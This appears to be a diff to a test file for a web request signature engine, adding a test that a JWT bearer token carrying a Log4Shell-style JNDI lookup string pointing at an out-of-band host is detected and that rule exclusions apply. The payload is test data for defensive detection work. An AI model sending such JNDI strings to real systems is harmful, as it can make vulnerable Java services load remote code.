@@ -1,9 +1,10 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal text, not templates
 /**
  * Requests shaped to get past an application's own checks (request-shape.ts, redirects.ts) and SVG
  * images in data URIs read as images.
  */
 import { describe, expect, it } from "vitest";
-import type { SignatureInput } from "../../../core/signatures/index.ts";
+import { createSignatureEngine, type SignatureInput } from "../../../core/signatures/index.ts";
 import { matchesAt } from "./support.ts";
 
 const where = (over: Partial<SignatureInput>): string[] => matchesAt(over, "app.example.com");
@@ -460,5 +461,28 @@ describe("bodies read for what a server makes of them", () => {
     expect(body(mp, "multipart/form-data; boundary=B")).toContain(
       "921110@body:multipart.extraHttpHeaders.json.X-Trace",
     );
+  });
+});
+
+describe("the bearer token cache", () => {
+  it("replays a token's findings under each request's own exclusions and paranoia", () => {
+    const b64 = (o: unknown) => btoa(JSON.stringify(o)).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
+    const token = `${b64({ alg: "RS256" })}.${b64({ sub: "u1", name: "${jndi:ldap://cache.oast.fun/a}" })}.c2ln`;
+    const input = {
+      method: "GET",
+      path: "/a",
+      rawPath: "/a",
+      query: [],
+      headers: [
+        ["host", "app.example"],
+        ["authorization", `Bearer ${token}`],
+      ] as Array<[string, string]>,
+    };
+    const engine = createSignatureEngine();
+    const rules = (exclusions: Array<{ rules: string[] }>) =>
+      engine.inspect(input, { paranoia: 1, threshold: 5, exclusions }).matches.map((m) => m.rule);
+    expect(rules([])).toContain("944150");
+    expect(rules([{ rules: ["java"] }])).not.toContain("944150");
+    expect(rules([])).toContain("944150");
   });
 });
